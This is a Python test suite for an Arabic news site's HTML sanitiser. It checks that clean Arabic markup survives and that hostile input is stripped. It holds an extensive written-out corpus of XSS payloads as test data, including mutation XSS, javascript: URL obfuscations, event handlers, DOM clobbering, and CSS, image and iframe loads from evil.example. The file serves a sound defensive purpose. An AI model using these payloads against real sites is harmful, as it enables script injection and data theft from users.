"""The only sanitiser: nothing hostile passes it, nothing that our editor writes is harmed by it."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from articles import body

# Fifteen classes of hostile input; each is (what it is, what is typed).
HOSTILE = [
    # scripts
    ("script", "<script>alert(1)</script>"),
    ("script", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
    ("script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script", "<script\x00>alert(1)</script>"),
    ("script", "<noscript><p title='</noscript><script>alert(1)</script>'>"),
    # events
    ("event", "<p onclick=alert(1)>x</p>"),
    ("event", "<img src=/media/pictures/a.jpg onerror=alert(1)>"),
    ("event", "<img src=x onerror=alert(1)>"),
    ("event", "<details open ontoggle=alert(1)>x</details>"),
    ("event", "<a href='/ar/' onmouseover='alert(1)'>x</a>"),
    ("event", "<video><source onerror=alert(1)></video>"),
    ("event", "<body onload=alert(1)>"),
    # addresses
    ("url", "<a href='javascript:alert(1)'>x</a>"),
    ("url", "<a href='JaVaScRiPt:alert(1)'>x</a>"),
    ("url", "<a href=' javascript:alert(1)'>x</a>"),
    ("url", "<a href='java\tscript:alert(1)'>x</a>"),
    ("url", "<a href='java&#10;script:alert(1)'>x</a>"),
    ("url", "<a href='&#106;avascript:alert(1)'>x</a>"),
    ("url", "<a href='\x01javascript:alert(1)'>x</a>"),
    ("url", "<a href='data:text/html,<script>alert(1)</script>'>x</a>"),
    ("url", "<a href='vbscript:msgbox(1)'>x</a>"),
    ("url", "<a href='//evil.example/'>x</a>"),
    ("url", "<a href='/\\evil.example/'>x</a>"),
    ("url", "<a href='blob:https://evil.example/1'>x</a>"),
    # pictures from elsewhere
    ("picture", "<img src='https://evil.example/pixel.gif'>"),
    ("picture", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>"),
    ("picture", "<img src='/media/../admin/'>"),
    ("picture", "<img src='//evil.example/x.png'>"),
    ("picture", "<img srcset='https://evil.example/x.png 1x' src='/media/a.jpg'>"),
    # SVG and MathML
    ("svg", "<svg onload=alert(1)>"),
    ("svg", "<svg><script>alert(1)</script></svg>"),
    ("svg", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>"),
    ("mathml", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>"),
    ("mathml", "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>"),
    # mutation
    (
        "mutation",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    ("mutation", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("mutation", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("mutation", "<p><style><!--</style><img src=x onerror=alert(1)>--></style>"),
    ("mutation", "<table><td><svg><desc><td><img src=x onerror=alert(1)>"),
    # style
    ("style", "<p style='background:url(https://evil.example/)'>x</p>"),
    ("style", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style", "<link rel=stylesheet href=https://evil.example/x.css>"),
    ("style", "<p class='bar submit-row errornote'>x</p>"),
    # clobbering
    ("clobber", "<form id=article_form><input name=action></form>"),
    ("clobber", "<img name=cookie src=/media/a.jpg>"),
    ("clobber", "<a id=editorGuard href=/ar/>x</a>"),
    # gadgets of our own scripts
    ("gadget", "<p data-theme-button data-show='en' data-copy>x</p>"),
    ("gadget", "<div data-ajax--url='https://evil.example/'>x</div>"),
    ("gadget", "<p class='related-read' data-article='1\" onclick=alert(1) x=\"'>x</p>"),
    ("gadget", "<p class='related-read' data-article='javascript:1'>x</p>"),
    # templates
    ("template", "<template><script>alert(1)</script></template>"),
    # dangling mark-up
    ("dangling", "<img src='https://evil.example/?"),
    ("dangling", "<a href='https://ok.example/' target='"),
    ("dangling", "<textarea><p>"),
    ("dangling", "<!-- <script>alert(1)</script>"),
    # frames and objects
    ("embed", "<iframe src='https://evil.example/'></iframe>"),
    ("embed", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    ("embed", "<object data='https://evil.example/x.swf'></object>"),
    ("embed", "<embed src='https://evil.example/x.swf'>"),
    ("embed", "<oembed url='https://evil.example/v'></oembed>"),
    ("embed", "<oembed url='http://www.youtube.com/watch?v=1'></oembed>"),
    ("embed", "<oembed url='https://www.youtube.com.evil.example/'></oembed>"),
    # the page itself
    ("page", "<base href='https://evil.example/'>"),
    ("page", "<meta http-equiv=refresh content='0;url=https://evil.example/'>"),
    ("page", "</main></body><h1>x</h1>"),
    # encodings
    ("encoding", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("encoding", "<ſcript>alert(1)</ſcript>"),
    ("encoding", "\u202e<p>reversed</p>\u202c"),
    ("encoding", "<p>\ud800</p>"),
    ("encoding", "<p>\x00\x08\x0b\x1f\x7f\x85</p>"),
]

URL_ATTRIBUTES = {"href", "src", "url"}


class Allowed(HTMLParser):
    """Reads mark-up as a browser would and complains about everything outside the list, which is written here anew."""

    attributes = {
        "a": {"href", "rel"},
        "img": {"src", "alt", "width", "height"},
        "ol": {"start"},
        "oembed": {"url"},
        "p": {"class", "data-article"},
        "figure": {"class"},
        "td": {"colspan", "rowspan"},
        "th": {"colspan", "rowspan", "scope"},
        "time": {"datetime"},
    }
    tags = {
        *("p", "h2", "h3", "h4", "blockquote", "ul", "ol", "li", "figure", "figcaption", "hr", "pre"),
        *("table", "caption", "thead", "tbody", "tr", "th", "td"),
        *("a", "strong", "b", "em", "i", "u", "s", "sub", "sup", "br", "span", "bdi", "code", "mark", "time", "q"),
        *("img", "oembed"),
    }

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in self.tags
        for name, value in attrs:
            assert name in self.attributes.get(tag, set()) | {"dir", "lang"}
            if name == "class":
                assert value in {"", "related-read", "image", "table", "media"}
            if name in URL_ATTRIBUTES:
                assert_harmless(tag, value or "")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


def assert_harmless(tag: str, address: str) -> None:
    if tag == "img":
        assert address.startswith("/media/")
        assert ".." not in address
        return
    assert not address.startswith(("//", "/\\"))
    scheme = re.match(r"[\x00-\x20\ufeff]*([a-zA-Z][a-zA-Z0-9+.\t\r\n-]*):", address)
    assert scheme is None or scheme[1].lower() in {"http", "https", "mailto", "tel"}


def assert_clean(html: str) -> None:
    reader = Allowed(convert_charrefs=True)
    reader.feed(html)
    reader.close()
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\ud800-\udfff]", html)


def test_the_corpus_has_fifteen_classes() -> None:
    assert len({kind for kind, _typed in HOSTILE}) == 15


@pytest.mark.parametrize(("kind", "typed"), HOSTILE)
def test_nothing_hostile_passes(kind: str, typed: str) -> None:
    assert_clean(body.clean(typed))


@pytest.mark.parametrize(("kind", "typed"), HOSTILE)
def test_nothing_hostile_passes_inside_honest_text(kind: str, typed: str) -> None:
    assert_clean(body.clean(f"<p>قبل {typed} بعد</p><ul><li>{typed}</li></ul>"))


@pytest.mark.parametrize(("kind", "typed"), HOSTILE)
def test_cleaning_twice_changes_nothing_more(kind: str, typed: str) -> None:
    once = body.clean(typed)
    assert body.clean(once) == once


HONEST = [
    "<p>لم يكن أحد يتوقع أن يكون تحت البيدر شيء.</p>",
    "<p>القُدْسُ والعَرَبِيَّة بالتشكيل</p>",
    "<p>كتـــاب بتطويل</p>",
    "<p>می\u200cخواهم بفاصل صفري</p>",
    "<p>قال: «لم نفقد سوى زاويتين».</p>",
    "<p>٢٥ كانون الأول/ ديسمبر ٢٠٢٤، ١٢:٠٥ م</p>",
    "<h2>عنوان</h2><h3>أصغر</h3><h4>أصغر منه</h4>",
    "<p><strong>غامق</strong> و<em>مائل</em> و<u>تحته خط</u> و<s>محذوف</s></p>",
    "<p>H<sub>2</sub>O، م<sup>2</sup></p>",
    "<ul><li>أول</li><li>ثانٍ<ul><li>داخله</li></ul></li></ul>",
    '<ol start="3"><li>ثالث</li></ol>',
    "<blockquote><p>اقتباس</p></blockquote>",
    '<p><a href="/ar/articles/12/" rel="noopener">داخلي</a></p>',
    '<p><a href="https://example.org/?a=1&amp;b=2#c" rel="noopener">خارجي</a></p>',
    '<p><a href="mailto:desk@example.org" rel="noopener">بريد</a></p>',
    '<p><a href="tel:+963111234567" rel="noopener">هاتف</a></p>',
    '<figure class="image"><img src="/media/pictures/a.jpg" alt="حصاة" width="400" height="300">'
    "<figcaption>شرح</figcaption></figure>",
    '<figure class="table"><table><thead><tr><th scope="col">أ</th></tr></thead>'
    '<tbody><tr><td colspan="2">ب</td></tr></tbody></table></figure>',
    '<figure class="media"><oembed url="https://www.youtube.com/watch?v=abc"></oembed></figure>',
    '<p class="related-read" data-article="42">قناة ماء عمرها ألف عام</p>',
    '<p dir="ltr" lang="en">An English line</p>',
    '<p>قالت <bdi lang="en" dir="ltr">BBC</bdi> ذلك</p>',
    "<p>سطر<br>وآخر</p><hr><p>بعده</p>",
    "<p>2 &lt; 3 &amp; 5 &gt; 4</p>",
    "<p>مسافة&nbsp;لا تُكسر</p>",
    "<pre><code>x = {{ y }} {% z %} ${w}</code></pre>",
    '<p>يوم <time datetime="2024-12-25">الأربعاء</time></p>',
    "<p>😀 رمز</p>",
]


@pytest.mark.parametrize("typed", HONEST)
def test_honest_text_is_not_harmed(typed: str) -> None:
    assert body.clean(typed) == typed


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_taken_and_comes_out_clean(typed: str) -> None:
    once = body.clean(typed)
    assert_clean(once)
    assert body.clean(once) == once


_PIECES = [
    "<p>",
    "</p>",
    "<b",
    ">",
    "<svg>",
    "<style>",
    "</style>",
    "<!--",
    "-->",
    "<img src=x ",
    "onerror=1",
    '"',
    "'",
    "<a href=",
    "javascript:",
    "<table>",
    "<td>",
    "<math>",
    "نص",
    "&lt;",
    "<p class=related-read data-article=4>",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=25).map("".join))
def test_any_mark_up_comes_out_clean(typed: str) -> None:
    once = body.clean(typed)
    assert_clean(once)
    assert body.clean(once) == once


# --- what else the cleaner does ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("<p lang='AR-SY' dir='rtl'>نص</p>", '<p lang="ar" dir="rtl">نص</p>'),
        ("<p lang='fr'>texte</p>", "<p>texte</p>"),
        ("<p dir='sideways'>نص</p>", "<p>نص</p>"),
        ("<ul><li data-list-item-id='e1'>بند</li></ul>", "<ul><li>بند</li></ul>"),
        ("<p style='color:red'>لون</p>", "<p>لون</p>"),
        ("<div><p>في صندوق</p></div>", "<p>في صندوق</p>"),
        ("<h1>كبير</h1>", "كبير"),
        ("<figure class='image'><img src='https://evil.example/x.png'></figure>", ""),
        ("<p class='related-read'>بلا رقم</p>", ""),
        ("<p>أ\r\nب</p>", "<p>أ\nب</p>"),
    ],
)
def test_what_is_left_of(typed: str, stored: str) -> None:
    assert body.clean(typed) == stored


@pytest.mark.parametrize("unseen", ["\ufeff", "\u200b"])
def test_an_address_that_hides_its_scheme_is_refused(unseen: str) -> None:
    assert body.clean(f"<p><a href='{unseen}javascript:alert(1)'>x</a></p>") == '<p><a rel="noopener">x</a></p>'


def test_a_megabyte_of_nested_tags_is_taken() -> None:
    assert_clean(body.clean("<b>" * 2000 + "x" + "</b>" * 2000))


# --- plain text --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<p>أول</p><p>ثانٍ</p>", "أول\nثانٍ"),
        ("<p>سطر<br>آخر</p>", "سطر\nآخر"),
        ("<p>2 &lt; 3&nbsp;</p>", "2 < 3"),
        ("<p>&nbsp;</p>", ""),
        ("", ""),
        ("<ul><li>أ</li><li>ب</li></ul>", "أ\nب"),
    ],
)
def test_plain_text_has_a_line_for_a_block(html: str, words: str) -> None:
    assert body.plain_text(html) == words


# --- read-also blocks --------------------------------------------------------------------------------------

BLOCK = '<p class="related-read" data-article="42">عنوان</p>'


@pytest.mark.parametrize(
    ("html", "parts"),
    [
        ("", []),
        ("<p>أ</p>", ["<p>أ</p>"]),
        (BLOCK, [body.ReadAlso(42)]),
        (f"<p>أ</p>{BLOCK}<p>ب</p>", ["<p>أ</p>", body.ReadAlso(42), "<p>ب</p>"]),
        (f"{BLOCK}{BLOCK}", [body.ReadAlso(42), body.ReadAlso(42)]),
        (f"<p>أ</p>{BLOCK}\n ", ["<p>أ</p>", body.ReadAlso(42)]),
        ('<p class="related-read" dir="rtl" data-article="7">x</p>', [body.ReadAlso(7)]),
        ('<p data-article="7">ليس كتلة</p>', ['<p data-article="7">ليس كتلة</p>']),
    ],
)
def test_a_text_is_cut_at_its_blocks(html: str, parts: list[str | body.ReadAlso]) -> None:
    assert body.split(html) == parts


def test_the_words_inside_a_block_reach_no_reader() -> None:
    parts = body.split(f"<p>أ</p>{BLOCK}<p>ب</p>")
    assert "عنوان" not in "".join(part for part in parts if isinstance(part, str))


def test_a_block_is_made_as_the_editor_stores_it() -> None:
    made = body.read_also_block(42, "2 < 3 «نعم»")
    assert (made, body.clean(made)) == ('<p class="related-read" data-article="42">2 &lt; 3 «نعم»</p>', made)


def test_a_block_survives_the_cleaner_in_its_place() -> None:
    html = f"<p>أ</p>{BLOCK}<p>ب</p>"
    assert body.split(body.clean(html)) == body.split(html)


def test_an_embedded_address_becomes_a_plain_link_for_readers() -> None:
    html = '<figure class="media"><oembed url="https://youtu.be/x?a=1&amp;b=2"></oembed></figure>'
    address = "https://youtu.be/x?a=1&amp;b=2"
    assert body.split(body.clean(html)) == [
        f'<p class="embed" dir="ltr"><a href="{address}" rel="noopener">{address}</a></p>'
    ]
